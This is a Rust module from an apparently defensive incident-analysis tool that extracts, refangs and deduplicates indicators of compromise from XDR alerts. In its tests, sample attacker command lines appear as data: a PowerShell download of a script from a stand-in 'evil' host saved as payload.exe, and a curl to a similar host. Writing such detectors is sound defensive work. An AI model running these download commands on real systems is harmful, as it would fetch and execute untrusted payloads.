//! Indicator and entity extraction from an incident's extra data.
//!
//! Structured fields are taken by name; free text (command lines, descriptions) is scanned with
//! linear-time regexes after refanging. Everything is normalised, classified and deduplicated.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::OnceLock;

use crate::domain::{normalise, refang, Endpoint, Indicator, IndicatorKind, InternalNames};
use crate::text::prefix;
use crate::xdr::ExtraData;

mod facts;
mod techniques;
pub use facts::facts;
pub use techniques::{infer, Looks, Rule, RULES};

/// Longest free-text field scanned; command lines beyond this are cut (attackers pad them).
const MAX_SCAN_BYTES: usize = 128 * 1024;
/// Longer URLs are kept as their first 2,000 bytes (what browsers and proxies accept).
const MAX_URL_BYTES: usize = 2000;
/// Places remembered per indicator.
const MAX_SEEN_IN: usize = 3;

/// XDR alert fields and the kind of indicator each holds.
const ALERT_FIELDS: &[(&str, IndicatorKind)] = &[
    ("host_ip", IndicatorKind::Ipv4),
    ("action_local_ip", IndicatorKind::Ipv4),
    ("action_remote_ip", IndicatorKind::Ipv4),
    ("action_local_ip_v6", IndicatorKind::Ipv4),
    ("action_remote_ip_v6", IndicatorKind::Ipv4),
    ("fw_remote_ip", IndicatorKind::Ipv4),
    ("dst_action_external_hostname", IndicatorKind::Domain),
    ("action_external_hostname", IndicatorKind::Domain),
    ("dns_query_name", IndicatorKind::Domain),
    ("fw_url_domain", IndicatorKind::Domain),
    ("action_file_sha256", IndicatorKind::Sha256),
    ("action_process_image_sha256", IndicatorKind::Sha256),
    ("actor_process_image_sha256", IndicatorKind::Sha256),
    ("causality_actor_process_image_sha256", IndicatorKind::Sha256),
    ("os_actor_process_image_sha256", IndicatorKind::Sha256),
    ("action_file_md5", IndicatorKind::Md5),
    ("action_process_image_md5", IndicatorKind::Md5),
    ("actor_process_image_md5", IndicatorKind::Md5),
    ("causality_actor_process_image_md5", IndicatorKind::Md5),
    // Attack-surface alerts: the exposed address and names.
    ("ipv4_addresses", IndicatorKind::Ipv4),
    ("asset_identifiers.ipv4Address", IndicatorKind::Ipv4),
    ("domain_names", IndicatorKind::Domain),
    // Messages: who sent it, to whom.
    ("fw_email_sender", IndicatorKind::Email),
    ("fw_email_recipient", IndicatorKind::Email),
    ("host_name", IndicatorKind::Hostname),
    ("user_name", IndicatorKind::User),
    ("actor_effective_username", IndicatorKind::User),
    ("actor_process_image_name", IndicatorKind::Process),
    ("causality_actor_process_image_name", IndicatorKind::Process),
    ("action_process_image_name", IndicatorKind::Process),
];

/// Where an indicator seen only in free text came from: alert text anyone can write (a command
/// line, a description), not a field XDR's telemetry filled in. Such indicators are marked in the
/// dossier and never become an action's target.
pub fn is_free_text(seen_in: &str) -> bool {
    TEXT_FIELDS.contains(&seen_in) || seen_in == "incident.description"
}

/// Free-text fields scanned for embedded indicators.
const TEXT_FIELDS: &[&str] = &[
    "actor_process_command_line",
    "causality_actor_process_command_line",
    "action_process_image_command_line",
    "os_actor_process_command_line",
    "action_registry_data",
    "description",
];

/// Alert fields that carry ATT&CK references (`T1059.001 - PowerShell`).
const MITRE_FIELDS: &[&str] = &["mitre_technique_id_and_name", "mitre_techniques_ids_and_names"];

/// Top-level domains accepted when a domain is found inside free text. A name such as
/// `payload.exe` or `System.Management` must not become an indicator; structured DNS fields
/// accept any TLD.
const FREE_TEXT_TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "io", "co", "me", "xyz", "top", "online", "site", "club", "app", "dev", "cloud", "live", "shop",
    "store", "tech", "link", "click", "pw", "cc", "tk", "ml", "ga", "cf", "gq", "ru", "su", "cn", "ir", "kp", "ua", "by", "kz", "de", "uk",
    "fr", "nl", "it", "es", "pl", "br", "in", "jp", "kr", "tw", "hk", "sg", "au", "ca", "us", "eu", "ch", "se", "no", "fi", "dk", "be",
    "at", "cz", "ro", "hu", "tr", "il", "za", "mx", "ar", "vn", "id", "th", "my", "ph", "onion", "gov", "edu", "mil", "int", "test",
    "example",
];

/// Extracted evidence of one incident.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Extraction {
    pub indicators: Vec<Indicator>,
    /// ATT&CK technique IDs cited by XDR (`T1059.001`), upper case, deduplicated.
    pub techniques: Vec<String>,
    /// Endpoints of the case: (endpoint id, host name) as far as known.
    pub endpoints: Vec<Endpoint>,
}

struct Patterns {
    ipv4: Regex,
    ipv6: Regex,
    url: Regex,
    email: Regex,
    domain: Regex,
    hash: Regex,
    technique: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let re = |p: &str| Regex::new(p).expect("static regex compiles");
        Patterns {
            // ASCII digits only: an address never holds other scripts' digits, and Unicode `\d`
            // makes this the slowest pattern to compile.
            ipv4: re(r"\b(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])\b"),
            ipv6: re(r"(?i)\b(?:[0-9a-f]{1,4}:){7}[0-9a-f]{1,4}\b|(?i)\b(?:[0-9a-f]{1,4}:){1,6}:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4}\b"),
            // Unbounded here, capped at MAX_URL_BYTES in `scan_text`: a counted repetition of a
            // Unicode class (`{3,2000}`) took 35 ms to compile, paid by the first case of every
            // cold Lambda.
            url: re(r#"(?i)\b(?:https?|ftp)://[^\s"'<>`|\\^{}]{3,}"#),
            email: re(r"(?i)\b[a-z0-9._%+\-]{1,64}@(?:[a-z0-9\-]{1,63}\.)+[a-z]{2,24}\b"),
            domain: re(r"(?i)\b(?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}\b"),
            hash: re(r"\b[0-9a-fA-F]{32}(?:[0-9a-fA-F]{8})?(?:[0-9a-fA-F]{24})?\b"),
            technique: re(r"\bT[0-9]{4}(?:\.[0-9]{3})?\b"),
        }
    })
}

/// Collects, normalises and deduplicates indicators across alerts and artifacts.
#[derive(Default)]
pub struct Collector<'a> {
    names: Option<&'a InternalNames>,
    found: BTreeMap<(IndicatorKind, String), Indicator>,
    techniques: Vec<String>,
}

impl<'a> Collector<'a> {
    pub fn new(names: &'a InternalNames) -> Self {
        Collector { names: Some(names), found: BTreeMap::new(), techniques: Vec::new() }
    }

    pub fn add(&mut self, kind: IndicatorKind, raw: &str, seen_in: &str) {
        let default_names = InternalNames::default();
        let names = self.names.unwrap_or(&default_names);
        let Some(mut ind) = normalise(kind, raw, names) else {
            return;
        };
        let entry = self.found.entry((ind.kind, ind.value.clone())).or_insert_with(|| {
            ind.seen_in.clear();
            ind
        });
        if entry.seen_in.len() < MAX_SEEN_IN && !entry.seen_in.iter().any(|s| s == seen_in) {
            entry.seen_in.push(seen_in.to_string());
        }
    }

    /// Scans free text for embedded indicators, after refanging.
    pub fn scan_text(&mut self, text: &str, seen_in: &str) {
        // A URL with a password in it must not become an indicator sent to a source.
        let text = refang(&crate::redact::credentials(prefix(text, MAX_SCAN_BYTES)));
        let p = patterns();
        let mut url_hosts = Vec::new();
        for m in p.url.find_iter(&text) {
            let url = trim_url_end(prefix(m.as_str(), MAX_URL_BYTES));
            self.add(IndicatorKind::Url, url, seen_in);
            if let Some(host) = crate::domain::url_host(url) {
                url_hosts.push(host);
            }
        }
        for host in url_hosts {
            self.add(IndicatorKind::Ipv4, &host, seen_in);
            self.add(IndicatorKind::Domain, &host, seen_in);
        }
        for m in p.email.find_iter(&text) {
            self.add(IndicatorKind::Email, m.as_str(), seen_in);
        }
        for m in p.ipv4.find_iter(&text) {
            self.add(IndicatorKind::Ipv4, m.as_str(), seen_in);
        }
        for m in p.ipv6.find_iter(&text) {
            self.add(IndicatorKind::Ipv6, m.as_str(), seen_in);
        }
        for m in p.domain.find_iter(&text) {
            let d = m.as_str();
            let tld = d.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
            // Skip the domain part of an e-mail address; it is already covered by the e-mail.
            let preceded_by_at = m.start() > 0 && text.as_bytes()[m.start() - 1] == b'@';
            if FREE_TEXT_TLDS.contains(&tld.as_str()) && !preceded_by_at {
                self.add(IndicatorKind::Domain, d, seen_in);
            }
        }
        for m in p.hash.find_iter(&text) {
            let kind = match m.as_str().len() {
                32 => IndicatorKind::Md5,
                40 => IndicatorKind::Sha1,
                64 => IndicatorKind::Sha256,
                _ => continue,
            };
            self.add(kind, m.as_str(), seen_in);
        }
        self.scan_techniques(&text);
    }

    pub fn scan_techniques(&mut self, text: &str) {
        for m in patterns().technique.find_iter(text) {
            let id = m.as_str().to_string();
            if !self.techniques.contains(&id) {
                self.techniques.push(id);
            }
        }
    }

    pub fn finish(self) -> (Vec<Indicator>, Vec<String>) {
        (self.found.into_values().collect(), self.techniques)
    }
}

/// A URL found in text without the punctuation the sentence put after it (`see http://a.com/x.`),
/// keeping a `]` that closes the URL's own IPv6 literal (`http://[2001:db8::1]`).
fn trim_url_end(url: &str) -> &str {
    let mut url = url;
    while let Some(last) = url.chars().last() {
        let closes_own_bracket = last == ']' && url.matches('[').count() >= url.matches(']').count();
        if !matches!(last, '.' | ',' | ';' | ')' | ']' | '\'' | '"') || closes_own_bracket {
            break;
        }
        url = &url[..url.len() - last.len_utf8()];
    }
    url
}

/// Domain suffixes the tenant's own data shows it owns: the domain of its agents' FQDNs
/// (`agent_fqdn`, `hosts[]` written as FQDNs) and the UPN suffixes of its users. A name under
/// them is internal: never looked up outside, pseudonymised for the model.
pub fn learned_suffixes(data: &ExtraData) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut push = |suffix: &str| {
        let s = suffix.trim().trim_end_matches('.').to_ascii_lowercase();
        let valid = s.contains('.') && s.len() <= 253 && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
        if valid && s.parse::<std::net::IpAddr>().is_err() && !out.contains(&s) && out.len() < 20 {
            out.push(s);
        }
    };
    let fqdn_suffix = |fqdn: &str| fqdn.split_once('.').map(|(_, rest)| rest.to_string()).filter(|r| r.contains('.'));
    for a in &data.alerts {
        for (k, v) in &a.fields {
            match k.as_str() {
                "agent_fqdn" if v.parse::<std::net::IpAddr>().is_err() => {
                    if let Some(s) = fqdn_suffix(v) {
                        push(&s);
                    }
                }
                "user_name" | "actor_effective_username" => {
                    if let Some((_, upn_suffix)) = v.rsplit_once('@') {
                        push(upn_suffix);
                    }
                }
                _ => {}
            }
        }
    }
    for user in &data.incident.users {
        if let Some((_, upn_suffix)) = user.rsplit_once('@') {
            push(upn_suffix);
        }
    }
    for host in &data.incident.hosts {
        let name = host.split(':').next().unwrap_or(host);
        if name.parse::<std::net::IpAddr>().is_err() {
            if let Some(s) = fqdn_suffix(name) {
                push(&s);
            }
        }
    }
    out
}

/// Extracts everything from one incident's extra data plus any hints the webhook carried.
pub fn extract(data: &ExtraData, names: &InternalNames) -> Extraction {
    let mut c = Collector::new(names);
    let mut endpoints: Vec<Endpoint> = Vec::new();
    let inc = &data.incident;
    for host in &inc.hosts {
        // `hosts[]` entries are `name:agent_id`.
        let (name, agent) = host.split_once(':').map_or((host.as_str(), None), |(n, a)| (n, Some(a)));
        c.add(IndicatorKind::Hostname, name, "incident.hosts");
        push_endpoint(&mut endpoints, agent.map(str::to_string), Some(name.to_ascii_lowercase()));
    }
    for user in &inc.users {
        c.add(IndicatorKind::User, user, "incident.users");
    }
    for t in &inc.mitre_techniques {
        c.scan_techniques(t);
    }
    c.scan_text(&inc.description, "incident.description");
    for alert in &data.alerts {
        for (field, value) in &alert.fields {
            if let Some((_, kind)) = ALERT_FIELDS.iter().find(|(f, _)| f == field) {
                if field == "host_ip" {
                    // Comma-joined in extra data.
                    for ip in value.split(',') {
                        c.add(*kind, ip, field);
                    }
                } else {
                    c.add(*kind, value, field);
                }
                // The sender's domain is what reputation and age are known for.
                if field == "fw_email_sender" {
                    if let Some((_, domain)) = value.trim().rsplit_once('@') {
                        c.add(IndicatorKind::Domain, domain, "fw_email_sender (domain)");
                    }
                }
            } else if TEXT_FIELDS.contains(&field.as_str()) {
                c.scan_text(value, field);
            } else if MITRE_FIELDS.contains(&field.as_str()) {
                c.scan_techniques(value);
            }
        }
        if alert.endpoint_id.is_some() || alert.host_name.is_some() {
            push_endpoint(&mut endpoints, alert.endpoint_id.clone(), alert.host_name.as_deref().map(str::to_ascii_lowercase));
        }
    }
    for n in &data.network_artifacts {
        if let Some(ip) = &n.remote_ip {
            c.add(IndicatorKind::Ipv4, ip, "network_artifacts.network_remote_ip");
        }
        if let Some(d) = &n.domain {
            c.add(IndicatorKind::Domain, d, "network_artifacts.network_domain");
        }
    }
    for f in &data.file_artifacts {
        if let Some(h) = &f.sha256 {
            c.add(IndicatorKind::Sha256, h, "file_artifacts.file_sha256");
        }
    }
    let (indicators, techniques) = c.finish();
    Extraction { indicators, techniques, endpoints }
}

fn push_endpoint(endpoints: &mut Vec<Endpoint>, endpoint_id: Option<String>, host_name: Option<String>) {
    if let Some(existing) = endpoints
        .iter_mut()
        .find(|e| (endpoint_id.is_some() && e.endpoint_id == endpoint_id) || (host_name.is_some() && e.host_name == host_name))
    {
        if existing.endpoint_id.is_none() {
            existing.endpoint_id = endpoint_id;
        }
        if existing.host_name.is_none() {
            existing.host_name = host_name;
        }
        return;
    }
    endpoints.push(Endpoint { endpoint_id, host_name });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(text: &str) -> Vec<(IndicatorKind, String)> {
        let names = InternalNames::default();
        let mut c = Collector::new(&names);
        c.scan_text(text, "t");
        c.finish().0.into_iter().map(|i| (i.kind, i.value)).collect()
    }

    #[test]
    fn a_url_loses_the_sentence_punctuation_after_it_but_not_its_own_bracket() {
        let found = scan("beacon to http://[2001:4860::8888] then (see http://a.example.com/x). Also [http://b.example.com/y].");
        let urls: Vec<&str> = found.iter().filter(|(k, _)| *k == IndicatorKind::Url).map(|(_, v)| v.as_str()).collect();
        assert!(urls.contains(&"http://[2001:4860::8888]"), "{urls:?}");
        assert!(urls.contains(&"http://a.example.com/x"), "{urls:?}");
        assert!(urls.contains(&"http://b.example.com/y"), "{urls:?}");
        assert_eq!(trim_url_end("http://[::1]]."), "http://[::1]");
        assert_eq!(trim_url_end("http://a.com/é."), "http://a.com/é");
    }

    #[test]
    fn command_line_scanning_refangs_and_skips_file_names() {
        let found = scan(
            r#"powershell.exe -c "iwr hxxp://evil[.]example[.]com/a.ps1 -OutFile C:\x\payload.exe; nslookup c2.bad-domain.ru 10.0.0.5""#,
        );
        assert!(found.contains(&(IndicatorKind::Url, "http://evil.example.com/a.ps1".into())), "{found:?}");
        assert!(found.contains(&(IndicatorKind::Domain, "evil.example.com".into())));
        assert!(found.contains(&(IndicatorKind::Domain, "c2.bad-domain.ru".into())));
        assert!(found.contains(&(IndicatorKind::Ipv4, "10.0.0.5".into())));
        assert!(!found.iter().any(|(_, v)| v.contains("payload.exe") && !v.starts_with("http")), "{found:?}");
        assert!(!found.iter().any(|(_, v)| v == "powershell.exe"));
    }

    #[test]
    fn hashes_emails_and_techniques_in_text() {
        let names = InternalNames::default();
        let mut c = Collector::new(&names);
        c.scan_text("mail from Bob@Phish.Example.com, md5 D41D8CD98F00B204E9800998ECF8427E; T1059.001 and T1027", "t");
        let (inds, techniques) = c.finish();
        let kinds: Vec<_> = inds.iter().map(|i| (i.kind, i.value.as_str())).collect();
        assert!(kinds.contains(&(IndicatorKind::Email, "bob@phish.example.com")), "{kinds:?}");
        assert!(kinds.contains(&(IndicatorKind::Md5, "d41d8cd98f00b204e9800998ecf8427e")));
        assert!(!kinds.iter().any(|(k, _)| *k == IndicatorKind::Domain), "{kinds:?}");
        assert_eq!(techniques, vec!["T1059.001", "T1027"]);
    }

    #[test]
    fn a_very_long_url_is_kept_as_its_first_2000_bytes_and_only_ascii_digits_make_an_address() {
        let long = format!("http://evil.example.com/{}", "a".repeat(5000));
        // U+0661 is ARABIC-INDIC DIGIT ONE: a Unicode `\d` would take it for part of an address.
        let found = scan(&format!("curl {long} ; ping \u{0661}.2.3.4 ; T\u{0661}059"));
        let urls: Vec<&String> = found.iter().filter(|(k, _)| *k == IndicatorKind::Url).map(|(_, v)| v).collect();
        assert_eq!(urls.len(), 1, "{urls:?}");
        assert_eq!(urls[0].len(), MAX_URL_BYTES);
        assert!(long.starts_with(urls[0].as_str()));
        assert!(!found.iter().any(|(_, v)| v.contains('\u{0661}')), "{found:?}");
    }

    #[test]
    fn huge_text_is_bounded() {
        let big = "A".repeat(1_000_000) + " 8.8.8.8";
        assert!(scan(&big).is_empty());
        let multibyte = "é".repeat(100_000);
        assert!(scan(&multibyte).is_empty());
    }
}
